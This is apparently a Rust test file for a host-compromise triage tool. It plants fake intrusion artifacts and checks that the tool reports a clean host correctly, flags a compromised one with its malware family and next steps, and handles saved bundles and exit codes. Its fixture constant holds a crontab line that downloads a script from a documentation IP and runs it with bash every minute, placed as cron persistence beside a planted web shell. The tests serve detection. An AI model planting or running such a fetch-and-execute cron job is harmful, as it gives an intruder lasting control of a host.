use crate::env::TestEnvironment;
use serde_json::Value;

/// The crontab of the campaign, on a documentation address where the indicator is not the point: the names of its files are.
const CAMPAIGN: &str =
    "*/1 * * * * wget -q http://192.0.2.1/k.php -O /var/lib/asterisk/bin/zen222 && bash /var/lib/asterisk/bin/zen222\n";

fn host() -> TestEnvironment {
    let env = TestEnvironment::new();
    env.clean_host();
    env.put_with("etc/shadow", 0o600, "root:*:20000:0:99999:7:::\n");
    env.put("etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
    env.put("var/www/html/index.php", "<?php echo 'hello';\n");
    env
}

fn planted() -> TestEnvironment {
    let env = host();
    env.put("usr/lib/.systemd/.cache", CAMPAIGN);
    env.put_with("var/spool/cron/crontabs/root", 0o600, CAMPAIGN);
    env.put("var/lib/asterisk/bin/zen222", "#!/bin/bash\nexit\n");
    env.put("var/www/html/img.php", crate::env::SHELL);
    env
}

fn verdict(lines: &str) -> Value {
    let last: Value = serde_json::from_str(lines.lines().last().unwrap()).unwrap();
    assert_eq!(last["kind"], "verdict");
    last
}

fn answer<'a>(check: &'a Value, question: &str) -> Option<&'a str> {
    let all = check["answers"].as_array().unwrap();
    all.iter().find(|answer| answer["question"] == question).and_then(|answer| answer["answer"].as_str())
}

#[test]
fn a_quiet_host_has_an_answer_to_every_question_that_makes_sense_for_it() {
    let env = host();
    let told = env.triage(["check", "host"]);
    assert!(told.stdout.contains("NO EVIDENCE"), "{}", told.stdout);
    assert!(told.code == 0 || told.code == 3, "{}", told.stderr);
    let check = verdict(&env.triage(["check", "host", "--format", "jsonl"]).stdout);
    assert_eq!(check["verdict"], "no_evidence");
    assert_eq!(answer(&check, "shells"), Some("no_evidence"));
    assert_eq!(answer(&check, "accounts"), Some("no_evidence"));
    assert_eq!(answer(&check, "logs"), Some("not_known"));
    assert_eq!(answer(&check, "database"), None);
    assert_eq!(check["ongoing"]["answer"], "not_known");
}

#[test]
fn a_planted_host_is_told_with_family_root_and_next_commands() {
    let env = planted();
    let told = env.triage(["check", "host"]).expect(2);
    for words in ["COMPROMISED", "web shells", "img.php", "JOMANGY", "the intruder was root", "going on     likely"] {
        assert!(told.stdout.contains(words), "{words}: {}", told.stdout);
    }
    for words in ["next:", "triage plan 'host' --playbook", "set the machine up anew"] {
        assert!(told.stderr.contains(words), "{words}: {}", told.stderr);
    }
    let check = verdict(&env.triage(["check", "host", "--format", "jsonl"]).expect(2).stdout);
    assert_eq!(answer(&check, "persistence"), Some("compromised"));
    assert_eq!(check["families"][0]["id"], "jomangy");
    assert!(!check["host"]["digest"].as_str().unwrap().is_empty());
    assert!(check["first_act"]["time"].as_str() <= check["last_act"]["time"].as_str());
    let whole: Value =
        serde_json::from_str(&env.triage(["check", "host", "--format", "json"]).expect(2).stdout).unwrap();
    let ids: Vec<&Value> = whole["scan"]["findings"].as_array().unwrap().iter().map(|one| &one["id"]).collect();
    let named = whole["answers"].as_array().unwrap().iter().flat_map(|one| one["strongest"].as_array().unwrap());
    assert!(named.into_iter().all(|id| ids.contains(&id)), "an answer names a finding that is not there");
}

#[test]
fn what_is_kept_gives_the_same_answer_again() {
    let env = planted();
    let live = verdict(&env.triage(["check", "host", "--format", "jsonl", "--save", "kept.tar.zst"]).expect(2).stdout);
    env.triage(["verify", "kept.tar.zst"]).expect(0);
    let kept = verdict(&env.triage(["check", "kept.tar.zst", "--format", "jsonl"]).expect(2).stdout);
    for field in ["verdict", "answers", "ongoing", "first_act", "last_act", "root_shown", "families", "host"] {
        assert_eq!(live[field], kept[field], "{field}");
    }
}

#[test]
fn a_bundle_is_never_written_over_by_a_check() {
    let env = host();
    std::fs::write(env.at("kept.tar.zst"), "something of somebody's").unwrap();
    env.triage(["check", "host", "--save", "kept.tar.zst"]).expect(1);
    assert_eq!(std::fs::read_to_string(env.at("kept.tar.zst")).unwrap(), "something of somebody's");
}

#[test]
fn weaknesses_end_with_2_only_where_that_is_asked_for() {
    let env = host();
    // A responder's note is a low sign: nothing proves a compromise.
    env.put("etc/crontab", "# blocked on 2026-05-22: 45.95.147.178\n17 * * * * root run-parts /etc/cron.hourly\n");
    let quiet = env.triage(["check", "host"]).code;
    assert_ne!(quiet, 2);
    let has_low = env.triage(["scan", "host", "--format", "jsonl"]).stdout.contains("\"severity\":\"low\"");
    assert!(has_low, "the sample is no finding any more");
    env.triage(["check", "host", "--fail-on", "low"]).expect(2);
    assert_eq!(env.triage(["check", "host", "--fail-on", "critical,vulnerable"]).code, quiet);
}

#[test]
fn a_target_that_is_not_there_is_an_error_with_a_hint() {
    let env = host();
    let told = env.triage(["check", "nothing"]).expect(1);
    assert!(told.stderr.contains("hint"), "{}", told.stderr);
    env.triage(["check", "host", "--fail-on", "everything"]).expect(64);
}

#[test]
fn a_host_that_is_named_by_its_root_is_the_one_that_the_next_commands_are_for() {
    let told = planted().triage(["check", "--root", "host"]).expect(2);
    assert!(
        told.stderr.contains("triage scan 'host'") && told.stderr.contains("triage plan 'host'"),
        "{}",
        told.stderr
    );
}
